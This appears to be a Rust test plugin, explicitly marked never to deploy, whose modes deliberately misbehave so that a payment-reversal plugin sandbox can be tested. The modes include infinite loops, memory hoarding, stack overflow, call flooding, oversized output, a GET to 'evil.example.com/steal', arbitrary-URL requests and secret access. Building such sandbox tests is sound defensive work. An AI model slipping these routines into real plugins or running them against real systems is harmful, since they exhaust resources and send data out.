//! A deliberately misbehaving plugin for testing the sandbox; never deploy it.
//!
//! `reverse` does what the `mode` parameter says: `ok`, `loop`, `panic`,
//! `memory`, `recursion`, `deny-host` (HTTP to a host off its allowlist),
//! `url` (HTTP to the URL in param `url`), `secret` (sign with the secret named
//! in param `name`), `flood` (host calls until stopped), `huge-output` (an
//! 8 MiB message), `bad-utf8` (a string that is not UTF-8), `big-body` (a
//! 1 MiB request body to the URL in param `url`).

use revhost_sdk::http::{Method, RequestBuilder};
use revhost_sdk::outcome::{error, from_http_error, outcome};
use revhost_sdk::signing::{self, DigestAlgorithm, Part};
use revhost_sdk::{
    ErrorClass, Operation, Outcome, OutcomeKind, Plugin, PluginInfo, ReversalError, ReverseRequest,
    param,
};

/// The misbehaving adapter.
pub struct Hostile;

impl Plugin for Hostile {
    fn info() -> PluginInfo {
        PluginInfo {
            name: "hostile".into(),
            version: env!("CARGO_PKG_VERSION").into(),
            provider: "none".into(),
            operations: vec![Operation::Refund],
            status_by_reference: false,
            supports_status: false,
        }
    }

    fn reverse(req: ReverseRequest) -> Result<Outcome, ReversalError> {
        match param(&req.params, "mode").unwrap_or("ok") {
            "ok" => Ok(outcome(OutcomeKind::Succeeded, "ok", "behaved")),
            "loop" => {
                let mut i: u64 = 0;
                loop {
                    i = std::hint::black_box(i.wrapping_add(1));
                }
            }
            "panic" => panic!("hostile plugin panics on purpose"),
            "memory" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 1 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            "recursion" => Ok(outcome(
                OutcomeKind::Succeeded,
                &recurse(std::hint::black_box(0)).to_string(),
                "",
            )),
            "deny-host" => send("https://evil.example.com/steal"),
            "url" => send(param(&req.params, "url").unwrap_or("")),
            "secret" => {
                let name = param(&req.params, "name").unwrap_or("api_key");
                signing::digest(DigestAlgorithm::Sha256, &[Part::Secret(name.into())])
                    .map(|d| outcome(OutcomeKind::Succeeded, &format!("{:02x?}", &d[..4]), ""))
                    .map_err(|e| error(ErrorClass::AuthConfig, "", &format!("{e:?}")))
            }
            "flood" => loop {
                let _ = signing::digest(DigestAlgorithm::Md5, &[Part::Text("x".into())]);
            },
            "huge-output" => Ok(outcome(OutcomeKind::Succeeded, "x", &"x".repeat(8 << 20))),
            "bad-utf8" => {
                // SAFETY: deliberately not: the host must refuse the string.
                let bad = unsafe { String::from_utf8_unchecked(vec![b'o', b'k', 0xff, 0xfe]) };
                Ok(outcome(OutcomeKind::Succeeded, &bad, ""))
            }
            "big-body" => {
                let resp =
                    RequestBuilder::new(Method::Post, param(&req.params, "url").unwrap_or(""))
                        .body(vec![b'x'; 1 << 20])
                        .send()
                        .map_err(from_http_error)?;
                Ok(outcome(
                    OutcomeKind::Succeeded,
                    &resp.status.to_string(),
                    "",
                ))
            }
            other => Err(error(
                ErrorClass::InvalidRequest,
                "",
                &format!("unknown mode {other}"),
            )),
        }
    }
}

#[allow(unconditional_recursion, reason = "the point: overflow the stack")]
fn recurse(n: u64) -> u64 {
    let pad = std::hint::black_box([n; 64]);
    recurse(pad[3] + 1) + pad[7]
}

fn send(url: &str) -> Result<Outcome, ReversalError> {
    let resp = RequestBuilder::new(Method::Get, url)
        .send()
        .map_err(from_http_error)?;
    Ok(outcome(
        OutcomeKind::Succeeded,
        &resp.status.to_string(),
        "",
    ))
}

revhost_sdk::export!(Hostile);
